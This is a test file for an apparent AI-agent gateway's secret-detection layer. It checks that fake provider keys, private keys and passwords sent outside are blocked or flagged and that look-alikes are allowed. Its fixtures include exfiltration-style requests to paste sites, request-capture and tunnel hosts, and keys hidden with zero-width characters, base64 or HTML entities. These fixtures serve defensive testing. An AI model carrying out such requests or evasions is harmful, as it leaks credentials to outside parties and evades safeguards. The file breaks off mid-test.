import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { crc32 } from "node:zlib";
import secretsData from "../../data/secrets.json" with { type: "json" };
import {
  base62Of,
  createSecretScanner,
  createSecretsLayer,
  hasGatewayChecksum,
  hasGithubChecksum,
  inUrlQuery,
  isJwtShape,
  SecretsDataSchema,
  shannonEntropy,
} from "../../layers/secrets.js";
import { issueApiKey } from "../../src/crypto/api-key.js";
import type { ProtectRequest } from "../../src/pipeline/facts.js";
import {
  checkLayer,
  codesOf,
  expectLayerVerdict,
  layerNamed,
  layerVerdict,
} from "../helpers/layer-harness.js";

const layer = layerNamed("secrets");

/** Deterministic fake key material: every test run sees the same "random" strings. */
function fake(length: number, alphabet: string, seed: number): string {
  let state = seed >>> 0 || 1;
  let out = "";
  for (let i = 0; i < length; i++) {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    out += alphabet[state % alphabet.length];
  }
  return out;
}

const ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
const B64 = `${ALNUM}+/`;
const URLSAFE = `${ALNUM}-_`;
const HEX = "0123456789abcdef";
const UPPER32 = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";

function githubToken(prefix: string, seed: number): string {
  const body = fake(30, ALNUM, seed);
  return `${prefix}${body}${base62Of(crc32(body), 6)}`;
}

function email(content: string): ProtectRequest {
  return { action: "send_email", target: "someone@partner.example", content };
}

const STRIPE = `sk_live_${fake(24, ALNUM, 11)}`;

/** One sample of every provider format the layer knows, as it would be pasted. */
const PROVIDER_SAMPLES: readonly (readonly [string, string])[] = [
  [
    "AWS key pair",
    `aws_access_key_id=AKIA${fake(16, UPPER32, 1)}\naws_secret_access_key=${fake(40, B64, 2)}`,
  ],
  ["AWS session key id", `ASIA${fake(16, UPPER32, 3)}`],
  ["GitHub classic token", githubToken("ghp_", 4)],
  ["GitHub OAuth token", githubToken("gho_", 5)],
  ["GitHub fine-grained token", `github_pat_11${fake(20, ALNUM, 6)}_${fake(59, ALNUM, 7)}`],
  ["GitLab token", `glpat-${fake(20, URLSAFE, 8)}`],
  [
    "Slack bot token",
    `xoxb-${fake(12, "0123456789", 9)}-${fake(13, "0123456789", 10)}-${fake(24, ALNUM, 11)}`,
  ],
  [
    "Slack webhook",
    `https://hooks.slack.com/services/T${fake(8, UPPER32, 12)}/B${fake(8, UPPER32, 13)}/${fake(24, ALNUM, 14)}`,
  ],
  ["Stripe live key", STRIPE],
  ["Stripe restricted key", `rk_live_${fake(30, ALNUM, 15)}`],
  ["Google API key", `AIza${fake(35, URLSAFE, 16)}`],
  ["OpenAI project key", `sk-proj-${fake(64, URLSAFE, 17)}`],
  ["OpenAI legacy key", `sk-${fake(20, ALNUM, 18)}T3BlbkFJ${fake(20, ALNUM, 19)}`],
  ["Anthropic key", `sk-ant-api03-${fake(93, URLSAFE, 20)}AA`],
  ["Twilio API key", `SK${fake(32, HEX, 21)}`],
  ["SendGrid key", `SG.${fake(22, URLSAFE, 22)}.${fake(43, URLSAFE, 23)}`],
  ["npm token", githubToken("npm_", 24)],
  ["PyPI token", `pypi-AgEIcHlwaS5vcmc${fake(70, URLSAFE, 25)}`],
  ["Azure storage key", `AccountName=acme;AccountKey=${fake(86, B64, 26)}==;`],
  ["Heroku key", `HRKU-${fake(60, URLSAFE, 27)}`],
  ["Shopify token", `shpat_${fake(32, HEX, 28)}`],
  ["Square token", `sq0atp-${fake(22, URLSAFE, 29)}`],
  ["Telegram bot token", `${fake(10, "123456789", 30)}:AA${fake(33, URLSAFE, 31)}`],
  ["Mailgun key", `key-${fake(32, HEX, 32)}`],
  ["DigitalOcean token", `dop_v1_${fake(64, HEX, 33)}`],
  ["Databricks token", `dapi${fake(32, HEX, 34)}`],
  ["Vault token", `hvs.${fake(90, URLSAFE, 35)}`],
  ["Hugging Face token", `hf_${fake(34, ALNUM, 36)}`],
  ["this gateway's key", issueApiKey().key],
  [
    "RSA private key",
    `-----BEGIN RSA PRIVATE KEY-----\n${fake(64, B64, 37)}\n${fake(64, B64, 38)}\n-----END RSA PRIVATE KEY-----`,
  ],
  [
    "OpenSSH private key",
    `-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAA${fake(64, B64, 39)}\n-----END OPENSSH PRIVATE KEY-----`,
  ],
  [
    "PuTTY key",
    `PuTTY-User-Key-File-3: ssh-ed25519\nEncryption: none\nPublic-Lines: 1\n${fake(60, B64, 40)}\nPrivate-Lines: 1\n${fake(60, B64, 41)}`,
  ],
  [
    "shadow password hash",
    `root:$6$${fake(8, ALNUM, 42)}$${fake(86, `${ALNUM}./`, 43)}:19000:0:99999:7:::`,
  ],
  ["Postgres URL", `postgres://billing:${fake(18, ALNUM, 44)}@db.prod.example.com:5432/billing`],
  ["Mongo SRV URL", `mongodb+srv://svc:${fake(16, ALNUM, 45)}@cluster0.abcde.mongodb.net/app`],
  [
    "ADO.NET string",
    `Server=tcp:sql1.example.net,1433;Database=app;User ID=app;Password=${fake(16, ALNUM, 46)};`,
  ],
  ["key word and entropy", `client_secret: ${fake(40, URLSAFE, 47)}`],
];

describe("layer > secrets", () => {
  test("is built from its data file and refuses a bad pattern at start-up", () => {
    assert.equal(createSecretsLayer(secretsData).name, "secrets");
    const broken = structuredClone(secretsData) as { detectors: { pattern: string }[] };
    broken.detectors[0]!.pattern = "(unclosed";
    assert.throws(() => createSecretsLayer(broken));
  });

  describe("pure helpers", () => {
    test("GitHub and npm checksums accept the real shape and catch a typo", () => {
      const token = githubToken("ghp_", 99);
      assert.ok(hasGithubChecksum(token));
      const typo = `${token.slice(0, 10)}${token[10] === "a" ? "b" : "a"}${token.slice(11)}`;
      assert.equal(hasGithubChecksum(typo), false);
    });

    test("the gateway's own ak_ keys are recognised by their checksum", () => {
      const { key } = issueApiKey();
      assert.ok(hasGatewayChecksum(key));
      assert.equal(
        hasGatewayChecksum(`${key.slice(0, -1)}${key.endsWith("0") ? "1" : "0"}`),
        false,
      );
    });

    test("entropy separates random keys from words and repeats", () => {
      assert.ok(shannonEntropy(fake(40, B64, 5)) > 4.5);
      assert.ok(shannonEntropy("xxxxxxxxxxxxxxxxxxxx") < 0.1);
      assert.ok(shannonEntropy("passwordpassword") < 3);
    });

    test("a JWT needs a JSON header naming its algorithm", () => {
      assert.ok(isJwtShape("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.sig"));
      assert.equal(isJwtShape("eyJmb28iOiJiYXIifQ.eyJzdWIiOiIxIn0.sig"), false);
    });

    test("knows when a value sits in a link's query string", () => {
      const text = "go to https://app.example.com/x?token=abc and token=def";
      assert.ok(inUrlQuery(text, text.indexOf("abc")));
      assert.equal(inUrlQuery(text, text.indexOf("def")), false);
    });

    test("the scanner reports where a match sits and masks nothing itself", () => {
      const scanner = createSecretScanner(SecretsDataSchema.parse(secretsData));
      const hits = scanner.scanText(`key ${STRIPE} end`, "content");
      assert.equal(hits.length, 1);
      assert.equal(hits[0]!.id, "STRIPE_SECRET_KEY");
      assert.equal(hits[0]!.value, STRIPE);
    });
  });

  describe("provider formats sent outside", () => {
    for (const [name, sample] of PROVIDER_SAMPLES) {
      test(`BLOCKs a ${name} in an e-mail to an outside address`, () => {
        expectLayerVerdict(layer, email(`Here you go:\n${sample}\nthanks`), "BLOCK");
      });
    }

    test("evidence is masked: never the secret itself", () => {
      for (const [, sample] of PROVIDER_SAMPLES) {
        for (const f of checkLayer(layer, email(sample))) {
          assert.ok(f.evidence !== undefined && f.evidence.length <= 120);
          assert.ok(!f.evidence.includes(sample.slice(8, 24)), `${f.evidence} leaks ${sample}`);
        }
      }
    });

    test("a valid GitHub checksum raises confidence above a made-up token's", () => {
      const real = checkLayer(layer, email(githubToken("ghp_", 1)))[0];
      const madeUp = checkLayer(layer, email(`ghp_${fake(36, ALNUM, 2)}`))[0];
      assert.ok(real && madeUp);
      assert.ok(real.confidence > madeUp.confidence, `${real.confidence} vs ${madeUp.confidence}`);
      assert.match(real.message, /checksum valid/);
    });
  });

  describe("severity by where the secret goes", () => {
    test("BLOCKs a key posted to a public channel as a public exposure", () => {
      assert.deepEqual(
        codesOf(layer, { action: "post_message", target: "#public-community", content: STRIPE }),
        ["SECRET_PUBLIC_EXPOSURE"],
      );
    });

    test("BLOCKs a key POSTed to a paste site", () => {
      const request = {
        action: "http_request",
        target: "https://pastebin.com/api/api_post.php",
        params: { method: "POST" },
        content: `cfg\n${STRIPE}`,
      };
      assert.deepEqual(codesOf(layer, request), ["SECRET_PUBLIC_EXPOSURE"]);
    });

    test("BLOCKs a key written under a web root", () => {
      expectLayerVerdict(
        layer,
        { action: "write_file", target: "public/app.js", content: `const k = "${STRIPE}";` },
        "BLOCK",
      );
    });

    test("BLOCKs a key in the query string of a request to another host", () => {
      expectLayerVerdict(
        layer,
        { action: "http_request", target: `https://collect.example.net/?k=${STRIPE}` },
        "BLOCK",
      );
    });

    test("WARNs on a key pasted into a prompt", () => {
      assert.deepEqual(codesOf(layer, { action: "llm_prompt", content: `why 401? ${STRIPE}` }), [
        "SECRET_IN_PROMPT",
      ]);
      expectLayerVerdict(layer, { action: "llm_prompt", content: `why 401? ${STRIPE}` }, "WARN");
    });

    test("WARNs on a key in an internal note or a notes file", () => {
      assert.deepEqual(codesOf(layer, { action: "create_note", content: STRIPE }), [
        "SECRET_IN_NOTE",
      ]);
      expectLayerVerdict(
        layer,
        { action: "write_file", target: "notes/rotation.md", content: STRIPE },
        "WARN",
      );
    });

    test("WARNs on credentials written into a ticket or wiki tool", () => {
      const url = "postgres://svc:Xk9pLm2Qw8Rt4Yz7@db.internal.example:5432/app";
      assert.deepEqual(
        codesOf(layer, { action: "jira_add_comment", target: "OPS-1", content: url }),
        ["SECRET_IN_NOTE"],
      );
      expectLayerVerdict(
        layer,
        { action: "confluence_update_page", target: "Runbook", content: url },
        "WARN",
      );
    });

    test("WARNs on a key hard-coded in source the agent writes", () => {
      assert.deepEqual(
        codesOf(layer, {
          action: "write_file",
          target: "src/pay.py",
          content: `stripe.api_key = "${STRIPE}"`,
        }),
        ["SECRET_HARDCODED"],
      );
    });

    test("WARNs, less sure, on a hard-coded database password in a local script", () => {
      const request = {
        action: "write_file",
        target: "scripts/report.py",
        content: `engine = create_engine("postgresql://report:${fake(18, ALNUM, 61)}@db.prod.example.com/sales")`,
      };
      assert.deepEqual(codesOf(layer, request), ["SECRET_HARDCODED"]);
      const [finding] = checkLayer(layer, request);
      assert.ok(finding && finding.severity === "WARN" && finding.confidence < 0.4);
    });

    test("says nothing when a key is written where keys belong (.env, secret stores)", () => {
      expectLayerVerdict(
        layer,
        { action: "write_file", target: ".env", content: `STRIPE_KEY=${STRIPE}` },
        "ALLOW",
      );
      expectLayerVerdict(
        layer,
        { action: "write_file", target: "k8s/payments-secret.yaml", content: `key: ${STRIPE}` },
        "ALLOW",
      );
    });

    test("says nothing about keys coming in: a file read or a tool result is not a leak", () => {
      expectLayerVerdict(
        layer,
        { action: "read_file", target: "config/.env", content: `STRIPE_KEY=${STRIPE}` },
        "ALLOW",
      );
      expectLayerVerdict(
        layer,
        { action: "tool_output", target: "search", content: `leaked: ${STRIPE}` },
        "ALLOW",
      );
    });

    test("says nothing when a key is sent to the provider that issued it", () => {
      const token = githubToken("ghp_", 3);
      expectLayerVerdict(
        layer,
        {
          action: "http_request",
          target: "https://api.github.com/user/repos",
          params: { method: "GET", headers: { Authorization: `token ${token}` } },
        },
        "ALLOW",
      );
      expectLayerVerdict(
        layer,
        {
          action: "shell_exec",
          target: `curl -H 'Authorization: token ${token}' https://api.github.com/user`,
        },
        "ALLOW",
      );
    });

    test("WARNs when a key of no known issuer is presented in a header to the host called", () => {
      const request = {
        action: "http_request",
        target: "https://collector.example.net/v1",
        params: { method: "GET", headers: { Authorization: `token ${fake(40, URLSAFE, 5)}` } },
      };
      assert.deepEqual(codesOf(layer, request), ["SECRET_TO_UNRELATED_HOST"]);
      expectLayerVerdict(layer, request, "WARN");
    });

    test("WARNs rather than BLOCKs on a sign-in token inside a link meant for its recipient", () => {
      const jwt = `eyJhbGciOiJIUzI1NiJ9.${Buffer.from('{"sub":"u1","exp":1999999999}').toString("base64url")}.${fake(43, URLSAFE, 9)}`;
      expectLayerVerdict(
        layer,
        email(`Sign in: https://app.example.com/magic?token=${jwt}`),
        "WARN",
      );
      expectLayerVerdict(layer, email(`Your session: ${jwt}`), "BLOCK");
    });
  });

  describe("disguised secrets", () => {
    test("BLOCKs a key split by a zero-width space", () => {
      expectLayerVerdict(
        layer,
        email(`use ${STRIPE.slice(0, 6)}\u200b${STRIPE.slice(6)}`),
        "BLOCK",
      );
    });

    test("BLOCKs a key sent base64-encoded", () => {
      expectLayerVerdict(
        layer,
        email(`blob: ${Buffer.from(`token ${STRIPE}`).toString("base64")}`),
        "BLOCK",
      );
    });

    test("BLOCKs a key written with HTML entities", () => {
      expectLayerVerdict(layer, email(`key: sk&#95;live&#95;${STRIPE.slice(8)}`), "BLOCK");
    });
  });

  describe("look-alikes stay ALLOW", () => {
    const allowed: readonly (readonly [string, string])[] = [
      ["AWS documentation keys", "AKIAIOSFODNN7EXAMPLE / wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"],
      ["a masked key", "AWS_ACCESS_KEY_ID=AKIAXXXXXXXXXXXXXXXX"],
      ["a Stripe test key", `sk_test_${fake(24, ALNUM, 50)}`],
      ["a placeholder", "API_KEY=your-api-key-here, TOKEN=<YOUR_TOKEN>"],
      // biome-ignore lint/suspicious/noTemplateCurlyInString: the text under test is a shell template.
      ["a template variable", "password: ${DB_PASSWORD} and token = {{ secrets.GH_TOKEN }}"],
      [
        "environment variable names",
        "Set AWS_SECRET_ACCESS_KEY and STRIPE_SECRET_KEY in the vault.",
      ],
      ["a git SHA", `Fixed in ${fake(40, HEX, 51)}.`],
      ["a UUID", "Request 1b4e28ba-2fa1-41d2-883f-0016d3cca427 failed."],
      ["a SHA-256 digest", `sha256:${fake(64, HEX, 52)}`],
      ["a data: URI image", `<img src="data:image/png;base64,iVBORw0KGgo${fake(120, B64, 53)}">`],
      [
        "random ids in URLs",
        `https://drive.example.com/file/d/1${fake(32, URLSAFE, 54)}/view?usp=sharing`,
      ],
      ["a password policy", "Passwords need 14+ characters; the field is password_confirmation."],
      ["an SSH public key", `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${fake(43, B64, 55)} me@laptop`],
      [
        "a PEM header without a body",
        "-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----",
      ],
      ["a connection template", "postgres://user:password@localhost:5432/app"],
      ["a local dev database URL", "postgres://postgres:postgres@localhost:5432/dev"],
      ["a low-entropy token value", "token: abc123abc123abc1"],
    ];
    for (const [name, text] of allowed) {
      test(`ALLOWs ${name} in an e-mail`, () => {
        expectLayerVerdict(layer, email(text), "ALLOW");
      });
    }
  });

  describe("destination judged from an unknown tool's params", () => {
    const GH = githubToken("ghp_", 201);
    const env = `APP_ENV=prod\nGITHUB_TOKEN=${GH}`;

    test("BLOCKs a gist or paste tool as public, whatever its flags", () => {
      expectLayerVerdict(
        layer,
        { action: "create_gist", params: { public: true, content: env } },
        "BLOCK",
      );
      expectLayerVerdict(layer, { action: "paste_create", params: { body: env } }, "BLOCK");
      assert.deepEqual(
        codesOf(layer, { action: "create_gist", params: { public: true, content: env } }),
        ["SECRET_PUBLIC_EXPOSURE"],
      );
    });

    test("a secret gist is still outside: BLOCK as sent outside, not as public", () => {
      assert.deepEqual(
        codesOf(layer, { action: "create_gist", params: { public: false, content: env } }),
        ["SECRET_SENT_OUTSIDE"],
      );
    });

    test("BLOCKs an object stored with a public ACL and WARNs on a private one", () => {
      const put = (acl: string): ProtectRequest => ({
        action: "s3_put_object",
        params: { Bucket: "site", Key: "app.env", ACL: acl, Body: env },
      });
      expectLayerVerdict(layer, put("public-read"), "BLOCK");
      expectLayerVerdict(layer, put("private"), "WARN");
      expectLayerVerdict(
        layer,
        {
          action: "gcs_write_object",
          params: { bucket: "b", predefinedAcl: "publicRead", data: env },
        },
        "BLOCK",
      );
    });

    test("BLOCKs a link shared with anyone, in any of the usual spellings", () => {
      for (const params of [
        { link_access: "anyone_with_link" },
        { permission: { type: "anyone", role: "reader" } },
        { general_access: "Anyone with the link" },
        { visibility: "PUBLIC" },
      ]) {
        expectLayerVerdict(
          layer,
          { action: "set_sharing", params: { ...params, note: env } },
          "BLOCK",
        );
      }
    });

    test("a ticket or comment is internal unless its flags or its parties say otherwise", () => {
      const content = `token for the runner: ${GH}`;
      expectLayerVerdict(
        layer,
        { action: "create_ticket", content, params: { visibility: "internal" } },
        "WARN",
      );
      expectLayerVerdict(
        layer,
        { action: "create_ticket", content, params: { visibility: "external" } },
        "BLOCK",
      );
      expectLayerVerdict(
        layer,
        { action: "add_comment", content, params: { comment_visibility: "public_reply" } },
        "BLOCK",
      );
      expectLayerVerdict(
        layer,
        { action: "create_ticket", content, params: { cc: "someone.private@gmail.com" } },
        "BLOCK",
      );
      expectLayerVerdict(
        layer,
        { action: "create_ticket", target: "help.vendor-portal.example", content },
        "BLOCK",
      );
      expectLayerVerdict(
        layer,
        { action: "create_ticket", target: "jira.acme.example", content },
        "WARN",
      );
    });

    test("BLOCKs secrets sent to telemetry, analytics and error trackers", () => {
      const dsn = `postgres://svc:${fake(16, ALNUM, 202)}@db.prod.example.com/app`;
      expectLayerVerdict(
        layer,
        { action: "sentry_capture_message", params: { extra: { dsn } } },
        "BLOCK",
      );
      expectLayerVerdict(
        layer,
        { action: "track_event", params: { properties: { token: GH } } },
        "BLOCK",
      );
    });

    test("BLOCKs an unknown tool pointed at an outside URL, WARNs on an inside one", () => {
      expectLayerVerdict(
        layer,
        {
          action: "sync_records",
          params: { endpoint: "https://ingest.collector.example/v1", blob: env },
        },
        "BLOCK",
      );
      expectLayerVerdict(
        layer,
        { action: "sync_records", params: { endpoint: "http://ingest.corp:9000/v1", blob: env } },
        "WARN",
      );
    });

    test("a commit through a hosted-git tool leaves the machine", () => {
      expectLayerVerdict(
        layer,
        {
          action: "github_create_or_update_file",
          params: { owner: "acme", repo: "web", path: ".env", content: env },
        },
        "BLOCK",
      );
    });

    test("WARNs on a key given to a model through an unknown tool name, as for a prompt", () => {
      assert.deepEqual(
        codesOf(layer, {
          action: "openai_chat_create",
          params: { messages: [{ role: "user", content: `why 401? ${GH}` }] },
        }),
        ["SECRET_IN_PROMPT"],
      );
    });

    test("a file name is not a destination host", () => {
      expectLayerVerdict(
        layer,
        { action: "render_template", target: "report.yaml", content: env },
        "WARN",
      );
    });
  });

  describe("where secrets belong or are merely used", () => {
    const key = `sk_live_${fake(24, ALNUM, 210)}`;

    test("says nothing about a secret stored through a secret manager's API", () => {
      expectLayerVerdict(
        layer,
        {
          action: "http_request",
          target: "https://secretsmanager.eu-west-1.amazonaws.com/",
          params: { method: "POST", json: { SecretId: "prod/stripe", SecretString: key } },
        },
        "ALLOW",
      );
      expectLayerVerdict(
        layer,
        {
          action: "http_request",
          target: "http://vault.corp:8200/v1/secret/data/pay",
          params: { method: "POST", json: { data: { value: key } } },
        },
        "ALLOW",
      );
    });

    test("says nothing about a secret written through a secret manager's own tool", () => {
      expectLayerVerdict(
        layer,
        { action: "vault_kv_put", params: { path: "payments/stripe", data: { api_key: key } } },
        "ALLOW",
      );
      expectLayerVerdict(
        layer,
        { action: "onepassword_create_item", params: { password: key } },
        "ALLOW",
      );
    });

    test("a vault-looking host outside the organisation is not a secret store", () => {
      expectLayerVerdict(
        layer,
        {
          action: "http_request",
          target: "https://vault.storage-cheap.example/v1/secret/data/x",
          params: { method: "POST", json: { data: { value: key } } },
        },
        "BLOCK",
      );
    });

    test("a credential-named field inside a POST body is payload, not authentication", () => {
      expectLayerVerdict(
        layer,
        {
          action: "http_request",
          target: "https://collect.example-analytics.io/e",
          params: { method: "POST", json: { token: githubToken("ghp_", 211) } },
        },
        "BLOCK",
      );
      expectLayerVerdict(
        layer,
        {
          action: "http_request",
          target: "https://api.partner.example/v1/orders",
          params: { method: "GET", headers: { token: fake(40, URLSAFE, 212) } },
        },
        "WARN",
      );
    });

    test("BLOCKs a credential presented to a request-capture or tunnel host", () => {
      const headers = { Authorization: `Bearer ${githubToken("ghp_", 216)}` };
      for (const host of ["webhook.site", "eo1x.m.pipedream.net", "abc123.ngrok-free.app"]) {
        expectLayerVerdict(
          layer,
          {
            action: "http_request",
            target: `https://${host}/x`,
            params: { method: "GET", headers },
          },
          "BLOCK",
        );
      }
    });

    test("ALLOWs a bearer token presented to an internal service", () => {
      expectLayerVerdict(
        layer,
        {
          action: "http_request",
          target: "http://billing.internal:8080/api/sync",
          params: { method: "POST", headers: { Authorization: `Bearer ${fake(40, ALNUM, 213)}` } },
        },
        "ALLOW",
      );
    });

    test("ALLOWs a token looked up in a WHERE clause, still WARNs when it is set", () => {
      const value = fake(16, HEX, 214);
      for (const sql of [
        `DELETE FROM reset_tokens WHERE token = '${value}' AND user_id = 3;`,
        `SELECT id FROM keys k WHERE k.api_key = '${value}'`,
        `UPDATE s SET revoked = 1 WHERE x = 1 OR session_token = '${value}'`,
      ]) {
        expectLayerVerdict(layer, { action: "sql_query", content: sql }, "ALLOW");
      }
      expectLayerVerdict(
        layer,
        { action: "sql_query", content: `UPDATE cfg SET api_key = '${fake(24, ALNUM, 215)}';` },
        "WARN",
      );
    });
  });

  describe("more credential formats", () => {
    test("BLOCKs a service-account key file even with its private key cut off", () => {
      const json = `{"type": "service_account", "private_key_id": "${fake(40, HEX, 220)}", "private_key": "-----BEGIN PRIVATE KEY-----\\n…", "client_email": "x@p.iam.gserviceaccount.com"}`;
      expectLayerVerdict(layer, email(json), "BLOCK");
      expectLayerVerdict(
        layer,
        email(`{"private_key_id": "${fake(40, HEX, 220)}", "kid": 1}`),
        "ALLOW",
      );
    });

    test("BLOCKs Azure Service Bus keys and storage keys of any length", () => {
      expectLayerVerdict(
        layer,
        email(
          `Endpoint=sb://x.servicebus.windows.net/;SharedAccessKeyName=Root;SharedAccessKey=${fake(43, B64, 221)}=`,
        ),
        "BLOCK",
      );
      expectLayerVerdict(
        layer,
        email(`AccountName=a;AccountKey=${fake(64, B64, 222)}==;`),
        "BLOCK",
      );
    });

    test("BLOCKs a Kubernetes Secret's data whichever order kubectl prints it in", () => {
      const value = Buffer.from(`Pw-${fake(14, ALNUM, 223)}`).toString("base64");
      const first = `apiVersion: v1\nkind: Secret\nmetadata:\n  name: db\ndata:\n  pw: ${value}\n`;
      const last = `apiVersion: v1\ndata:\n  pw: ${value}\nkind: Secret\nmetadata:\n  name: db\n`;
      const json = `{"apiVersion":"v1","kind":"Secret","data":{"pw":"${value}"}}`;
      for (const text of [first, last, json]) expectLayerVerdict(layer, email(text), "BLOCK");
    });

    test("ALLOWs a ConfigMap and a Secret template holding a placeholder", () => {
      const cm = `kind: ConfigMap\ndata:\n  FLAGS: ${Buffer.from("search,pricing").toString("base64")}\n`;
      const tpl = `kind: Secret\ndata:\n  password: ${Buffer.from("changeme").toString("base64")}\n`;
      expectLayerVerdict(layer, email(cm), "ALLOW");
      expectLayerVerdict(layer, email(tpl), "ALLOW");
    });

    test("BLOCKs AI-provider keys, Teams webhooks and JWK private keys", () => {
      for (const text of [
        `gsk_${fake(52, ALNUM, 224)}`,
        `sk-or-v1-${fake(64, HEX, 225)}`,
        `https://acme.webhook.office.com/webhookb2/${fake(8, HEX, 226)}-aaaa-4bbb-8ccc-${fake(12, HEX, 227)}@${fake(8, HEX, 228)}-dddd-4eee-8fff-${fake(12, HEX, 229)}/IncomingWebhook/${fake(32, HEX, 230)}/${fake(8, HEX, 231)}-1111-4222-8333-${fake(12, HEX, 232)}`,
        `{"kty":"RSA","n":"${fake(60, URLSAFE, 233)}","e":"AQAB","d":"${fake(60, URLSAFE, 234)}"}`,
      ]) {
        expectLayerVerdict(layer, email(text), "BLOCK");
      }
    });

    test("ALLOWs a Firebase web config published with its page, BLOCKs the same key tweeted", () => {
      const key = `AIza${fake(35, URLSAFE, 240)}`;
      const page = `<script>const firebaseConfig = { apiKey: "${key}", authDomain: "a.firebaseapp.com" };</script>`;
      expectLayerVerdict(
        layer,
        { action: "write_file", target: "public/index.html", content: page },
        "ALLOW",
      );
      expectLayerVerdict(layer, { action: "post_tweet", content: `my key ${key}` }, "BLOCK");
    });

    test("ALLOWs the jwt.io example token", () => {
      expectLayerVerdict(
        layer,
        email(
          "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
        ),
        "ALLOW",
      );
    });

    test("BLOCKs a real-looking password sent outside in other languages, not one kept local", () => {
      const pw = `${fake(8, ALNUM, 235)}#${fake(3, ALNUM, 236)}`;
      for (const word of ["Kennwort", "mot de passe", "contraseña", "senha", "wachtwoord"]) {
        expectLayerVerdict(layer, email(`${word}: ${pw}`), "BLOCK");
      }
      expectLayerVerdict(
        layer,
        { action: "write_file", target: "deploy.sh", content: `password=${pw}` },
        "ALLOW",
      );
    });

    test("a .env dump counts every credential in it: two weak ones make a medium one", () => {
      const one = `DB_PASSWORD=${fake(7, ALNUM, 237)}1a`;
      const two = `${one}\nSMTP_PASSWORD=${fake(7, ALNUM, 238)}2b`;
      expectLayerVerdict(layer, { action: "send_message", target: "@x", content: one }, "WARN");
      expectLayerVerdict(layer, { action: "send_message", target: "@x", content: two }, "BLOCK");
    });
  });

  describe("passwords told in a sentence", () => {
    const pw = `${fake(6, ALNUM, 301)}!${fake(2, "0123456789", 302)}${fake(5, ALNUM, 303)}`;
    const note = (body: string): ProtectRequest => ({
      action: "confluence_add_comment",
      params: { page: "Runbook", visibility: "internal", body },
    });

    test("WARNs on a password given in prose in an internal comment", () => {
      expectLayerVerdict(
        layer,
        note(`The bastion password until the reset next week: ${pw} (user ops)`),
        "WARN",
      );
      expectLayerVerdict(layer, note(`db password is ${pw}`), "WARN");
    });

    test("BLOCKs a password given in prose sent outside, in several languages", () => {
      for (const sentence of [
        `Das Passwort für den Testserver lautet ${pw}, bitte vertraulich behandeln.`,
        `le mot de passe du compte admin est ${pw}`,
        `la contraseña del router es ${pw}`,
        `The new passphrase for the backup archive is now ${pw}.`,
      ]) {
        expectLayerVerdict(layer, email(sentence), "BLOCK");
      }
    });

    test("BLOCKs a password right after the word, a user/password pair and short key names", () => {
      for (const text of [
        `login: deploy, password ${pw}`,
        `creds for the staging box are admin / ${pw}, don't share`,
        `Zugangsdaten: backup-svc / ${pw}`,
        `DB_PASS=${pw}`,
        `smtp.pw: ${pw}`,
        `ssh root@203.0.113.7 (pw: ${pw})`,
      ]) {
        expectLayerVerdict(layer, email(text), "BLOCK");
      }
    });

    test("ALLOWs look-alikes of those shapes", () => {
      for (const text of [
        "password reset 2FA codes are sent by SMS",
        "Login: support / Dashboard",
        "bypass: true",
        "the pass rate: 98.5%",
        "credentials are rotated / audited monthly",
      ]) {
        expectLayerVerdict(layer, email(text), "ALLOW");
      }
    });

    test("ALLOWs prose about passwords that holds none", () => {
      for (const sentence of [
        "Password policy: Minimum12Chars! and one symbol required.",
        "Your password expires on Wednesday: change it at https://id.example.org/reset",
        "The password is stored in Vault: secret/data/prod/db",
        "Password reset for user: Jane.Doe42 was completed.",
        "The guest wifi password is Summer2024! for visitors.",
        "Forgot password? Contact: helpdesk@example.org",
        "the password is correct, the account was locked.",
        "Password must contain: Upper-Lower-Digit",
      ]) {
        expectLayerVerdict(layer, email(sentence), "ALLOW");
      }
    });
  });

  describe("outside parties and public places named by unknown tools", () => {
    const key = githubToken("ghp_", 311);

    test("BLOCKs a support ticket filed with a named vendor", () => {
      expectLayerVerdict(
        layer,
        {
          action: "create_support_ticket",
          params: { vendor: "Monitoring SaaS", subject: "Integration", body: `token: ${key}` },
        },
        "BLOCK",
      );
      // The same ticket kept in the internal helpdesk only WARNs.
      expectLayerVerdict(
        layer,
        {
          action: "create_support_ticket",
          params: { subject: "Integration", body: `token: ${key}` },
        },
        "WARN",
      );
    });

    test("BLOCKs a tool whose name says it deals with a vendor or partner", () => {
      expectLayerVerdict(
        layer,
        { action: "vendor_portal_message", params: { body: `use ${key} for the sync` } },
        "BLOCK",
      );
    });

    test("BLOCKs a discussion or community post on a public hub as a public exposure", () => {
      for (const request of [
        { action: "hf_create_discussion", params: { repo: "org/model", body: `token ${key}` } },
        { action: "create_thread", target: "community.example.org/t/help", content: `${key}` },
        { action: "add_reply", params: { site: "forum.example.net", body: `my token ${key}` } },
      ] as ProtectRequest[]) {
        assert.deepEqual(
          codesOf(layer, request),
          ["SECRET_PUBLIC_EXPOSURE"],
          JSON.stringify(request),
        );
      }
    });
  });

  describe("round 4: forwarded keys, shared vault items, audience flags, multi-line keys", () => {
    const gh = githubToken("ghp_", 401);

    test("BLOCKs a provider token in a header to an outside host that is not its issuer", () => {
      expectLayerVerdict(
        layer,
        {
          action: "http_request",
          target: "https://ingest.metrics-vendor.example/v1",
          params: { method: "POST", headers: { "X-Upstream-Auth": `Bearer ${gh}` }, body: {} },
        },
        "BLOCK",
      );
      assert.deepEqual(
        codesOf(layer, {
          action: "http_request",
          target: "https://ingest.metrics-vendor.example/v1",
          params: { method: "POST", headers: { Authorization: `token ${gh}` } },
        }),
        ["SECRET_TO_FOREIGN_HOST"],
      );
    });

    test("ALLOWs a provider token presented to its issuer or a self-hosted instance of it", () => {
      for (const target of [
        "https://api.github.com/repos/acme/app/issues",
